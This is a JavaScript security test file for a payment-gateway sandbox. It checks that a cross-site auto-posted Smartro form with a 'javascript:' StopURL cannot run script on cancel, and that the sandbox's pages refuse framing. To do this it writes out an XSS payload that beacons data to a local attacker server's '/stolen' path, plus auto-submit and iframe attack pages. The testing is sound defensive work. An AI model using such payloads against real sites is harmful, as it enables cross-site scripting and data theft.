// The sandbox as a cross-site page sees it (security review findings 2 and 11): a Smartro
// smartphone form with a `javascript:` StopURL, auto-posted from another origin, must not get
// script running on the sandbox origin when the buyer clicks cancel; the sandbox's pages cannot
// be framed by other sites. The attacker is a plain HTTP server on another loopback port.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { once } from "node:events";
import { useSandbox } from "./harness.mjs";
import { IPHONE_UA, checkoutPage } from "./pg-flows.mjs";

const env = useSandbox();

/** Another origin: serves `pages[path]` and records every request (the exfiltration sink). */
const attacker = { url: "", hits: [], pages: {} };
let server;
before(async () => {
  server = createServer((req, res) => {
    attacker.hits.push(req.url);
    const page = attacker.pages[new URL(req.url, "http://x").pathname];
    res.writeHead(page ? 200 : 404, { "content-type": "text/html; charset=utf-8" });
    res.end(page ?? "");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  attacker.url = `http://127.0.0.1:${server.address().port}`;
});
after(() => server?.close());

const escapeHtml = (s) =>
  s.replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c]);

/** A Smartro smartphone form signed by the sandbox merchant (EncryptData does not cover StopURL). */
async function signedMobileForm() {
  const res = await fetch(`${env.url}/api/smartro/checkout`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ amount: 1004, mobile: true }),
  });
  assert.equal(res.status, 200);
  return (await res.json()).fields;
}

test("Smartro smartphone page: a javascript: StopURL posted cross-site never runs on cancel", async () => {
  const payload = `javascript:void(new Image().src='${attacker.url}/stolen?from='+encodeURIComponent(location.origin))`;
  const fields = (await signedMobileForm()).map(([k, v]) => [k, k === "StopURL" ? payload : v]);
  const inputs = fields
    .map(([k, v]) => `<input type=hidden name="${escapeHtml(k)}" value="${escapeHtml(v)}">`)
    .join("");
  attacker.pages["/shop"] =
    `<!doctype html><form method=post accept-charset=UTF-8 action="${env.url}/pg/smartro/pay/interfaceURL" id=f>` +
    `${inputs}</form><script>document.getElementById("f").submit()</script>`;

  const context = await env.browser.newContext({ userAgent: IPHONE_UA, hasTouch: true, isMobile: true });
  const page = await context.newPage();
  await page.goto(`${attacker.url}/shop`);
  await page.waitForSelector("[data-pg-window], [data-pg-error]");
  assert.equal(new URL(page.url()).origin, env.url, "the form reached the sandbox");
  // The buyer clicks cancel, if the PG offered a window at all.
  if (await page.$("#cancel")) {
    await page.click("#cancel");
    await page.waitForLoadState("load");
    await page.waitForTimeout(1000);
  } else {
    // The library's URL rule (crates/hanpay-pg/src/pg/smartro/mod.rs StopURL) refuses it before the sandbox's own
    // origin check would.
    assert.match(await page.textContent("#error-code"), /^StopURL:(format|origin)$/);
  }
  assert.deepEqual(
    attacker.hits.filter((h) => h.startsWith("/stolen")),
    [],
    "script from StopURL ran on the sandbox origin",
  );
  await context.close();
});

test("Smartro smartphone page: cancel still goes to the merchant's own StopURL", async () => {
  const context = await env.browser.newContext({ userAgent: IPHONE_UA, hasTouch: true, isMobile: true });
  const page = await checkoutPage(context, env.url, "smartro");
  await Promise.all([page.waitForSelector("[data-pg-window]"), page.click("#pay")]);
  await Promise.all([page.waitForURL("**/merchant/smartro/stop"), page.click("#cancel")]);
  assert.match(await page.textContent("#result-view"), /"cancelled": true/);
  await context.close();
});

test("another site cannot frame the sandbox's pages (checkout page, merchant pages)", async () => {
  attacker.pages["/frame"] =
    `<!doctype html><iframe name=victim src="${env.url}/pg/smartro.html"></iframe>` +
    `<iframe name=pgwindow src="${env.url}/merchant/smartro/stop"></iframe>`;
  const context = await env.browser.newContext();
  const page = await context.newPage();
  const refused = [];
  page.on("response", (r) => {
    if (r.url().startsWith(env.url)) refused.push([r.url(), r.headers()["x-frame-options"]]);
  });
  await page.goto(`${attacker.url}/frame`);
  await page.waitForTimeout(1000);
  for (const name of ["victim", "pgwindow"]) {
    const frame = page.frame({ name });
    const loaded = frame ? await frame.evaluate(() => location.href).catch(() => "") : "";
    assert.ok(!loaded.startsWith(env.url), `${name} loaded ${loaded} inside ${attacker.url}`);
  }
  assert.ok(refused.length >= 2 && refused.every(([, xfo]) => xfo === "DENY"), JSON.stringify(refused));
  await context.close();
});
